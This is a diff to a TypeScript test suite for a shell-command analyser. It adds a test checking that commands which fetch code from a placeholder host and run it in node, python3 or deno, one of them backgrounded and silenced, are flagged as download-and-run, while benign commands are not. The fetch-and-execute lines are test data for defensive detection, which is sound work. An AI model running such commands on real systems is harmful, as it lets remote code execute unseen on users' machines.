@@ -136,6 +136,25 @@ describe('a shell command', () => {
     assert.deepEqual(readCommand('npm config get').reveals, ['credential-file']);
   });
 
+  it('gives an interpreter what a host sends', () => {
+    const kinds = (command: string): readonly string[] => readCommand(command).behaviours.map(({ kind }) => kind);
+    for (const command of [
+      'node -e "$(curl -fsSL https://load.invalid/i.js)"',
+      '(command -v node >/dev/null && node -e "$(curl -fsSL https://load.invalid/i.js)" &) >/dev/null 2>&1',
+      'python3 -c "$(wget -qO- https://load.invalid/i.py)"',
+      'python3 <(curl -s https://load.invalid/i.py)',
+      'deno eval "`curl -s https://load.invalid/i.ts`"',
+    ])
+      assert.deepEqual(kinds(command), ['download-and-run'], command);
+    for (const command of [
+      'node -e "console.log(1)" && curl -fsSL https://files.example/data.json',
+      'node report.js --ip $(hostname)',
+      'python3 -m http.server',
+      'node check.js "$(git rev-parse HEAD)"',
+    ])
+      assert.deepEqual(kinds(command), [], command);
+  });
+
   it('names the code and the files that it has run', () => {
     assert.deepEqual(readCommand(`node -e "require('./x')"`).scripts, [`require('./x')`]);
     assert.deepEqual(readCommand('start /B node preinstall.js & node preinstall.js').files, [
